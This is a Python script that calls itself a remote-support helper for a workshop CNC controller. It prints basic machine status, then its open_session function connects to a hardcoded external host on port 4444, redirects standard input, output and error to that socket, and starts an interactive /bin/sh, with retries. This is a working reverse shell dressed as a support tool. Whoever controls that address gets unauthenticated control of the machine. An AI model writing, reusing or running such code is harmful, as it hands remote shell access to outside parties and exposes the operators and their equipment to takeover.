#!/usr/bin/env python3
"""Remote assistance helper for the workshop CNC controller.

When the router misbehaves, the integrator asks us to run this so they can
look at the controller.  It prints basic machine status locally, then opens
a support session to the integrator's support host.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import time

SUPPORT_HOST = "203.0.113.45"
SUPPORT_PORT = 4444

log = logging.getLogger("remote_assist")


class MachineStatus:
    """Small snapshot of the controller for the support ticket."""

    def __init__(self):
        self.hostname = socket.gethostname()
        self.uptime = self._uptime()
        self.load = os.getloadavg() if hasattr(os, "getloadavg") else None

    @staticmethod
    def _uptime():
        try:
            with open("/proc/uptime") as fh:
                return float(fh.read().split()[0])
        except OSError:
            return None

    def summary(self):
        hours = (self.uptime or 0) / 3600
        return (f"host={self.hostname} uptime={hours:.1f}h "
                f"load={self.load}")


def print_status():
    status = MachineStatus()
    log.info("controller status: %s", status.summary())
    for name in ("jobs", "tool.tbl", "logs"):
        log.info("  %-9s %s", name, "present" if os.path.exists(name) else "missing")


def open_session(host, port, retries, delay):
    """Connect to the support host and hand it an interactive shell."""
    for attempt in range(1, retries + 1):
        try:
            sock = socket.create_connection((host, port), timeout=10)
        except OSError as exc:
            log.warning("attempt %d/%d: %s", attempt, retries, exc)
            time.sleep(delay)
            continue
        sock.settimeout(None)
        log.info("support session connected to %s:%d", host, port)
        sock.sendall(f"harp-cnc {socket.gethostname()} ready\n".encode())
        fd = sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        subprocess.call(["/bin/sh", "-i"])
        sock.close()
        return True
    return False


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", default=SUPPORT_HOST)
    ap.add_argument("--port", type=int, default=SUPPORT_PORT)
    ap.add_argument("--retries", type=int, default=5)
    ap.add_argument("--delay", type=float, default=30.0)
    ap.add_argument("--status-only", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    print_status()
    if args.status_only:
        return 0

    if not open_session(args.host, args.port, args.retries, args.delay):
        log.error("could not reach support host, try again later")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
